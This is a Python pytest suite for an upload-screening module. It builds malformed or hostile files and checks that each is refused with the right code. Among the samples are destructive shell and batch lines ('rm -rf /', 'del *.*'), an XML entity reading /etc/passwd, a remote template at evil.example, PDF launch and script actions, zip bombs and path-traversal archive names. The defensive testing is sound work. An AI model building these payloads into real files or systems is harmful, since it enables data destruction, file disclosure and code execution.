"""Files made to hurt, each made here, and the reason for which each is refused."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from include.engagement.items import FILE_PROBLEMS
from include.screening import Limits, Verdict, ending_of, screen
from include.screening.content import EICAR
from rehearsal.attachments import make_file

SMALL = Limits(unpacked_bytes=30_000_000, parts=200, ratio_floor_bytes=2_000_000, wall_seconds=30)
LOCKED_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def packed(parts: Mapping[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target.getvalue()


def changed(kind: str, parts: Mapping[str, bytes]) -> bytes:
    """An Office file with some parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(make_file(kind, title="Chào"))) as archive:
        return packed({**{name: archive.read(name) for name in archive.namelist()}, **parts})


def content_types(kind: str, more: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(make_file(kind, title="Chào"))) as archive:
        return archive.read("[Content_Types].xml").replace(b"</Types>", more + b"</Types>")


def sheet(cells: bytes) -> bytes:
    start = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return start + cells + b"</sheetData></worksheet>"


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    end = chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + end


def jpeg(width: int, height: int) -> bytes:
    size = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return b"\xff\xd8" + size + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x12\x34" * 9 + b"\xff\xd9"


def pdf(more: bytes) -> bytes:
    return make_file("pdf", title="Chào").replace(b"/Type /Catalog", b"/Type /Catalog " + more)


def locked_zip() -> bytes:
    data = bytearray(packed({"a.txt": b"xin chao"}))
    data[6] |= 1
    data[data.find(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def overlapping() -> bytes:
    data = packed({"a.txt": b"a" * 50, "b.txt": b"a" * 50})
    second = data.rfind(b"PK\x01\x02")
    return data[: second + 42] + struct.pack("<I", 0) + data[second + 46 :]


def lying() -> bytes:
    """Its list says ten bytes, its content is a million."""
    data = packed({"a.txt": b"\0" * 1_000_000})
    return data.replace(struct.pack("<I", 1_000_000), struct.pack("<I", 10))


def nested(depth: int) -> bytes:
    data = b"xin chao"
    for _ in range(depth):
        data = packed({"r.zip" if data.startswith(b"PK") else "r.txt": data})
    return data


DTD = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b SYSTEM "file:///etc/passwd">]><w>&a;&b;</w>'
MACRO_TYPE = b'<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
REMOTE = (
    b'<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
PACKED_SCRIPT = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>")

HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "nothing": ("a.pdf", b"", "empty"),
    "a PDF cut off": ("a.pdf", make_file("pdf", title="x")[:-30] + b" " * 3_000, "truncated"),
    "an archive cut off": ("a.docx", make_file("docx", title="x")[:-200], "truncated"),
    "a PNG cut off": ("a.png", png(2, 2)[:-20], "truncated"),
    "a JPEG cut off": ("a.jpg", jpeg(2, 2)[:-2], "truncated"),
    "a Windows program": ("a.pdf", b"MZ\x90\x00" + b"\0" * 400, "program"),
    "a Linux program": ("a.docx", b"\x7fELF\x02\x01\x01" + b"\0" * 400, "program"),
    "a Mac program": ("a.png", b"\xcf\xfa\xed\xfe" + b"\0" * 400, "program"),
    "a shell script": ("a.pdf", b"#!/bin/sh\nrm -rf /\n", "program"),
    "a page": ("a.jpg", b"  <!DOCTYPE html><html><script>alert(1)</script>", "program"),
    "a drawing with a script": ("a.png", b"<svg onload='alert(1)'></svg>", "program"),
    "a page in sixteen bits": ("a.pdf", "<html><script>".encode("utf-16"), "program"),
    "a batch file": ("a.xlsx", b"@echo off\r\ndel *.*\r\n", "program"),
    "a PowerShell script": ("a.pdf", b"$x = New-Object Net.WebClient\n", "program"),
    "a VBScript": ("a.docx", b'Set s = CreateObject("WScript.Shell")\n', "program"),
    "a shortcut": ("a.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 90, "program"),
    "a program in an archive": ("a.zip", packed({"hop-dong.pdf": b"MZ\x90\x00" + b"\0" * 99}), "program"),
    "a script in an archive by its ending": ("a.zip", packed({"doc.pdf.js": b"x()"}), "program"),
    "a program in an archive in an archive": ("a.zip", packed({"b.zip": packed({"c.exe": b"x"})}), "program"),
    "a program in a Word file": ("a.docx", changed("docx", {"word/media/i.png": b"MZ\x90" + b"\0" * 99}), "program"),
    "text called a PDF": ("a.pdf", "Xin chào".encode(), "not_what_it_says"),
    "a Word file called Excel": ("a.xlsx", make_file("docx", title="x"), "not_what_it_says"),
    "an archive behind a picture": ("a.jpg", jpeg(2, 2) + packed({"a.txt": b"x"}), "not_what_it_says"),
    "a picture of another kind": ("a.heic", b"\0\0\0\x18ftypheic", "format_not_taken"),
    "an ending turned around": ("hđ\u202efdp.rar", b"Rar!\x1a\x07\0\0", "format_not_taken"),
    "a locked archive": ("a.zip", locked_zip(), "encrypted"),
    "a locked Word file": ("a.docx", LOCKED_OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "a locked PDF": ("a.pdf", pdf(b"/Encrypt 9 0 R"), "encrypted"),
    "an old Word file with macros": ("a.docx", LOCKED_OLE + "_VBA_PROJECT".encode("utf-16-le"), "macros"),
    "macros by their part": ("a.docx", changed("docx", {"word/vbaProject.bin": b"x"}), "macros"),
    "macros by their type": (
        "a.docx", changed("docx", {"[Content_Types].xml": content_types("docx", MACRO_TYPE)}), "macros"),
    "a macro sheet": ("a.xlsx", changed("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "a template from elsewhere": (
        "a.docx", changed("docx", {"word/_rels/settings.xml.rels": REMOTE}), "active_content"),
    "a field that starts a program": (
        "a.docx",
        changed("docx", {"word/footer9.xml": b"<f><instrText>DDE</instrText><instrText>AUTO cmd</instrText></f>"}),
        "active_content"),
    "a packed object": (
        "a.docx",
        changed("docx", {"word/embeddings/oleObject1.bin": b"x" * 9 + "\x01Ole10Native".encode("utf-16-le")}),
        "active_content"),
    "XML with entities": ("a.docx", changed("docx", {"word/footer9.xml": DTD}), "xml_declarations"),
    "XML with entities in sixteen bits": (
        "a.xlsx", changed("xlsx", {"xl/x.xml": DTD.decode().encode("utf-16")}), "xml_declarations"),
    "broken XML": ("a.xlsx", changed("xlsx", {"xl/x.xml": b"<a><b></a>"}), "damaged"),
    "a cell far out": (
        "a.xlsx",
        changed("xlsx", {"xl/worksheets/sheet1.xml": sheet(b'<row><c r="XFD1048576"><v>1</v></c></row>')}),
        "sheet_too_large"),
    "a PDF with a script": ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), "active_content"),
    "a PDF with a script spelt in numbers": ("a.pdf", pdf(b"/AA << /S /J#61vaScript /JS (x) >>"), "active_content"),
    "a PDF with a packed script": (
        "a.pdf",
        pdf(b"") .replace(b"xref", b"9 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n" + PACKED_SCRIPT
                          + b"\nendstream endobj\nxref", 1),
        "active_content"),
    "a PDF that starts a program": ("a.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "active_content"),
    "a PDF with a program attached": (
        "a.pdf",
        pdf(b"") .replace(b"xref", b"9 0 obj << /Type /EmbeddedFile >> stream\nMZ\x90\0" + b"\0" * 90
                          + b"\nendstream endobj\nxref", 1),
        "program"),
    "a bomb": ("a.zip", packed({"a.txt": b"\0" * 31_000_000}), "unpacks_too_large"),
    "a bomb by its ratio": ("a.docx", changed("docx", {"word/media/a.png": b"\0" * 3_000_000}), "unpacks_too_large"),
    "a bomb of archives": (
        "a.zip", packed({f"{n}.zip": packed({"a.txt": b"\0" * 1_900_000}) for n in range(20)}), "unpacks_too_large"),
    "parts that share their bytes": ("a.zip", overlapping(), "unpacks_too_large"),
    "headers that lie": ("a.zip", lying(), "damaged"),
    "archives within archives": ("a.zip", nested(5), "nested_too_deep"),
    "another archive within": ("a.zip", packed({"a.dat": b"Rar!\x1a\x07\0"}), "nested_too_deep"),
    "thousands of parts": ("a.zip", packed({f"{n}.txt": b"" for n in range(300)}), "too_many_parts"),
    "a part outside its folder": ("a.zip", packed({"../../etc/cron.d/x": b"x"}), "unsafe_names"),
    "a part with an absolute name": ("a.zip", packed({"/etc/passwd": b"x"}), "unsafe_names"),
    "EICAR": ("a.pdf", EICAR, "virus"),
    "EICAR in an archive": ("a.zip", packed({"a.txt": EICAR}), "virus"),
    "EICAR in a Word file in an archive": (
        "a.zip", packed({"a.docx": changed("docx", {"word/media/i.png": EICAR})}), "virus"),
    "a huge PNG": ("a.png", png(60_000, 60_000), "image_too_large"),
    "a huge JPEG": ("a.jpg", jpeg(60_000, 60_000), "image_too_large"),
}  # fmt: skip


def verdict_on(folder: Path, name: str, data: bytes, limits: Limits = SMALL) -> Verdict:
    path = folder / "arrived"
    path.write_bytes(data)
    return screen(path, name=name, limits=limits)


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_for_what_it_is(what: str, tmp_path: Path) -> None:
    name, data, code = HOSTILE[what]
    verdict = verdict_on(tmp_path, name, data)
    assert verdict.code == code, verdict.detail
    assert code in FILE_PROBLEMS


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.pdf", make_file("pdf", title="Chào")),
        ("Đăng ký kinh doanh.DOCX", make_file("docx", title="Chào")),
        ("a.xlsx", make_file("xlsx", title="Chào")),
        ("a.png", png(4_000, 3_000)),
        ("a.jpeg", jpeg(12_000, 9_000)),
        ("a.jpg", jpeg(4_000, 3_000) + b"\0" * 5_000),
        ("a.zip", packed({"a.pdf": make_file("pdf", title="x"), "b.docx": make_file("docx", title="x")})),
        ("a.docx", changed("docx", {"word/media/icon.svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>"})),
    ],
)  # fmt: skip
def test_a_good_file_is_taken(name: str, data: bytes, tmp_path: Path) -> None:
    verdict = verdict_on(tmp_path, name, data)
    assert verdict.code is None, verdict


def test_a_file_beyond_the_limit_is_refused_by_its_size(tmp_path: Path) -> None:
    assert verdict_on(tmp_path, "a.pdf", b"x" * 11, replace(SMALL, file_bytes=10)).code == "too_large"


def test_a_file_that_takes_too_long_is_given_up(tmp_path: Path) -> None:
    data = make_file("pdf", title="x")
    assert verdict_on(tmp_path, "a.pdf", data, replace(SMALL, wall_seconds=0.0)).code == "too_complex"


def test_a_file_that_takes_too_much_memory_is_given_up(tmp_path: Path) -> None:
    data = b"%PDF-1.4\n" + b"\0" * 40_000_000 + b"%%EOF"
    assert verdict_on(tmp_path, "a.pdf", data, replace(SMALL, memory_bytes=30_000_000)).code is not None


def test_whatever_the_bytes_are_there_is_a_verdict(tmp_path: Path) -> None:
    chance = random.Random(7)
    sources = [make_file(kind, title="x") for kind in ("docx", "xlsx", "pdf")] + [png(3, 3), jpeg(3, 3)]
    for number in range(40):
        data = bytearray(sources[number % len(sources)])
        for _ in range(chance.choice((1, 5, 50))):
            data[chance.randrange(len(data))] = chance.randrange(256)
        verdict = verdict_on(tmp_path, f"a.{('docx', 'xlsx', 'pdf', 'png', 'jpg')[number % 5]}", bytes(data))
        assert verdict.code is None or verdict.code in FILE_PROBLEMS


@pytest.mark.parametrize(
    ("name", "ending"),
    [("a.PDF", "pdf"), ("a.pdf. ", "pdf"), ("a\u200b.pd\u200bf", "pdf"), ("pdf", ""), (".pdf", ""), ("a\0.exe", "exe")],
)
def test_an_ending_is_what_the_machine_goes_by(name: str, ending: str) -> None:
    assert ending_of(name) == ending
